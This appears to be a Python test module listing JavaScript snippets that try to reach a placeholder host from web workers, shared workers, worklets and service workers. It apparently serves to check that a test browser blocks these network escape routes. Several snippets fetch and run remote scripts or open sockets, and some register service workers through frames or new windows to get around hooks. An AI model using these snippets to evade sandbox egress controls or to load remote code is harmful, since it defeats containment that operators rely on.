"""Ways out of workers: those of a page, those that pages share, worklets, and service workers.

The browser of runs registers no service worker, by whichever window's hand.
"""

from sites.hostile.way import NO_CORS, Way, worker_way

WORKERS = {
    "worker-fetch": worker_way(f"fetch('http://@tcp@/',{NO_CORS})"),
    "worker-websocket": worker_way("new WebSocket('ws://@tcp@/')"),
    "worker-event-source": worker_way("new EventSource('http://@tcp@/')"),
    "worker-scripts": worker_way("importScripts('http://@tcp@/')"),
    "worker-xhr": worker_way(
        "x=new XMLHttpRequest();x.open('GET','http://@tcp@/',false);try{x.send()}catch{}"
    ),
    "worker-module": worker_way("import 'http://@tcp@/'", options="{type:'module'}"),
    "worker-in-worker": worker_way(
        'new Worker(URL.createObjectURL(new Blob([\'fetch("http://@tcp@/",{mode:"no-cors"})\'])))'
    ),
    "shared-worker": worker_way(f"fetch('http://@tcp@/',{NO_CORS})", kind="SharedWorker"),
    "worker-import": worker_way("import('http://@tcp@/').catch(()=>0)"),
    "worker-font": worker_way("new FontFace('odd','url(http://@tcp@/)').load().catch(()=>0)"),
    "worker-cache": worker_way(
        f"caches.open('x').then(c=>c.add(new Request('http://@tcp@/',{NO_CORS}))).catch(()=>0)"
    ),
    "shared-worker-scripts": worker_way("importScripts('http://@tcp@/')", kind="SharedWorker"),
    "shared-worker-websocket": worker_way("new WebSocket('ws://@tcp@/')", kind="SharedWorker"),
    "shared-worker-event-source": worker_way(
        "new EventSource('http://@tcp@/')", kind="SharedWorker"
    ),
    "shared-worker-module": worker_way(
        "import 'http://@tcp@/'", kind="SharedWorker", options="{type:'module'}"
    ),
    "worklet-import": Way(
        "new OfflineAudioContext(1,1,8000).audioWorklet.addModule("
        "URL.createObjectURL(new Blob([`import 'http://@tcp@/'`],{type:'text/javascript'}))).catch(()=>0)"
    ),
}
"""Requests of workers and worklets."""


_REGISTER = "ServiceWorkerContainer.prototype.register"


def _service(
    script: str,
    scope: str,
    *,
    options: str = "",
    before: str = "",
    register: str = "navigator.serviceWorker.register",
) -> Way:
    """Return the way of a service worker of a `scope` that runs `script`, made by a function of any window."""
    source = f"'/script?text='+encodeURIComponent(`{script}`)"
    return Way(
        f"{before}{register}.call(navigator.serviceWorker,{source},{{scope:'{scope}'{options}}}).catch(()=>0)",
        withheld=True,
        long="open(" in before,
    )


SERVICE_WORKERS = {
    "service-worker-fetch": _service(f"fetch('http://@tcp@/',{NO_CORS}).catch(()=>0)", "/fetch"),
    "service-worker-scripts": _service("importScripts('http://@tcp@/')", "/scripts"),
    "service-worker-module": _service(
        "import 'http://@tcp@/'", "/module", options=",type:'module'"
    ),
    "service-worker-websocket": _service("new WebSocket('ws://@tcp@/')", "/websocket"),
    "service-worker-by-its-kind": _service(
        "importScripts('http://@tcp@/')", "/kind", register=_REGISTER
    ),
    "service-worker-by-a-frame": _service(
        "importScripts('http://@tcp@/')",
        "/frame",
        before="const f=document.createElement('iframe');document.body.append(f);",
        register=f"f.contentWindow.{_REGISTER}",
    ),
    "service-worker-by-a-window": _service(
        "importScripts('http://@tcp@/')",
        "/window",
        before="const w=open('');",
        register=f"w.{_REGISTER}",
    ),
    "service-worker-for-a-frame": Way(
        "navigator.serviceWorker.register('/script?text='+encodeURIComponent(`onfetch=event=>"
        f"event.respondWith(fetch('http://@tcp@/',{NO_CORS}))`),{{scope:'/answer'}}).then(async one=>{{"
        "const worker=one.installing;while(worker.state!=='activated')"
        "await new Promise(done=>worker.addEventListener('statechange',done,{once:true}));"
        "const f=document.createElement('iframe');f.src='/answer';document.body.append(f)}).catch(()=>0)",
        withheld=True,
    ),
}
"""Service workers, which outlive their pages and stand between them and the site."""
